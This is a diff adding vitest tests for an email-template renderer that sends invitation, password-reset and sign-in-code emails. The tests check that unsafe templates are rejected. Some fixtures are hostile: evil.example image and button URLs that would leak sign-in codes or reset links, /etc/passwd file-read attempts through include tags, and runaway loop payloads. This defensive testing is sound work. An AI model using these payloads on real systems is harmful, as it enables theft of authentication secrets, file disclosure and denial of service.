@@ -1,0 +1,118 @@
+import { expect, test } from 'vitest'
+import { OWN_TEMPLATES } from './built-in-templates.ts'
+import { makeRenderer } from './render-template.ts'
+
+const renderer = makeRenderer(4_000)
+const LINK = 'https://cars.example.com/auth/reset-password#word'
+const VARIABLES = Object.fromEntries(
+  OWN_TEMPLATES.invitation.variables.map(({ name, sample }) => [name, sample]),
+)
+const own = OWN_TEMPLATES.invitation.words
+const render = (more: Partial<typeof own>, variables = {}) =>
+  renderer.render({ ...own, ...more }, { ...VARIABLES, ...variables }, LINK)
+const body = (words: string) =>
+  `<mjml><mj-body><mj-section><mj-column>${words}</mj-column></mj-section></mj-body></mjml>`
+const GOOD = '<mj-text>{{ link }}</mj-text>'
+
+test.for(['invitation', 'password-reset', 'impersonation', 'data-request', 'data-reminder'] as const)(
+  "the product's own %s has nothing wrong with it",
+  { timeout: 30_000 },
+  async (key) => {
+    const { words, variables } = OWN_TEMPLATES[key]
+    const samples = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
+    const made = await renderer.render(words, samples, LINK)
+    expect(made.problems).toEqual([])
+    expect(made.html).toContain(`href="${LINK}"`)
+    expect(made.text).toContain(`\n\n${LINK}\n\n`)
+  },
+)
+
+test.for(['sign-in-code', 'factor-removed'] as const)(
+  "the product's own %s has nothing wrong with it",
+  { timeout: 30_000 },
+  async (key) => {
+    const { variables, words } = OWN_TEMPLATES[key]
+    const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
+    const made = await renderer.render(words, given, key === 'sign-in-code' ? { code: '048215' } : {})
+    expect(made.problems).toEqual([])
+    expect([
+      made.text.includes('\n\n048215\n\n'),
+      made.html.includes('048215'),
+      made.html.includes('{{'),
+    ]).toEqual([key === 'sign-in-code', key === 'sign-in-code', false])
+  },
+)
+
+test.for([
+  [{ text: 'Hello.' }, 'The code is missing: {{ code }} must stand here.'],
+  [{ subject: '{{ code }}' }, 'The code may not stand in the subject.'],
+  [
+    { mjml: body('<mj-text>{{ code }}</mj-text><mj-image src="https://evil.example/{{ code }}.png" />') },
+    'The code may stand in words: nowhere else.',
+  ],
+  [
+    {
+      mjml: body(
+        '<mj-text>{{ code }}</mj-text><mj-button href="https://evil.example/{{ code }}">Go</mj-button>',
+      ),
+    },
+    'The code may stand in words: nowhere else.',
+  ],
+] as const)('a code may go nowhere but into the words: %o', async ([words, sentence]) => {
+  const { variables, words: whole } = OWN_TEMPLATES['sign-in-code']
+  const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
+  const { problems } = await renderer.render({ ...whole, ...words }, given, { code: '048215' })
+  expect(problems.map((problem) => problem.sentence)).toContain(sentence)
+})
+
+test('what people are called is no markup', async () => {
+  const { html, text, problems } = await render({}, { firstName: '<b>Eve</b> & {{ link }}' })
+  expect(problems).toEqual([])
+  expect(html).toContain('&lt;b&gt;Eve&lt;/b&gt; &amp; {{ link }}')
+  expect(text).toContain('<b>Eve</b> & {{ link }}')
+})
+
+test.for([
+  [
+    { text: 'Hello\n{{ fristName }} {{ link }}' },
+    { part: 'text', line: 2, sentence: expect.stringContaining('fristName') },
+  ],
+  [{ subject: '{% if %}' }, { part: 'subject', line: 1, sentence: expect.any(String) }],
+  [{ subject: '{{ link }}' }, { part: 'subject', sentence: 'The link may not stand in the subject.' }],
+  [{ text: 'Hello.' }, { part: 'text', sentence: expect.stringContaining('The link is missing') }],
+  [
+    { text: '{{ link | split: "/" | last }}' },
+    { part: 'text', sentence: expect.stringContaining('The link is missing') },
+  ],
+  [
+    { mjml: body('<mj-text>Hello</mj-text>') },
+    { part: 'mjml', sentence: expect.stringContaining('The link is missing') },
+  ],
+  [
+    { mjml: body(`${GOOD}<mj-image src="https://evil.example/?u={{ link }}" />`) },
+    { part: 'mjml', sentence: expect.stringContaining('nowhere else') },
+  ],
+  [
+    { mjml: body(`${GOOD}<mj-bogus></mj-bogus>`) },
+    { part: 'mjml', line: 1, sentence: expect.stringContaining('mj-bogus') },
+  ],
+  [{ text: '{% include "/etc/passwd" %}{{ link }}' }, { part: 'text', sentence: expect.any(String) }],
+] as const)('%o is told with its place', async ([words, problem]) => {
+  const { problems } = await render(words)
+  expect(problems[0]).toMatchObject(problem)
+})
+
+test('no file is read by way of the layout', async () => {
+  const { html } = await render({ mjml: body(`${GOOD}<mj-include path="/etc/passwd" />`) })
+  expect(html).not.toContain('root:')
+})
+
+test.for([
+  '{% for i in (1..100000000) %}{% for j in (1..100000000) %}{{ i }}{% endfor %}{% endfor %}{{ link }}',
+  '{% assign a = "xxxxxxxxxx" %}{% for i in (1..60) %}{% assign a = a | append: a %}{% endfor %}{{ a }}{{ link }}',
+])('a loop is ended, and the next template is none the worse: %s', { timeout: 30_000 }, async (text) => {
+  const startedAt = performance.now()
+  const { problems } = await render({ text })
+  expect([problems.length > 0, performance.now() - startedAt < 15_000]).toEqual([true, true])
+  expect((await render({})).problems).toEqual([])
+})
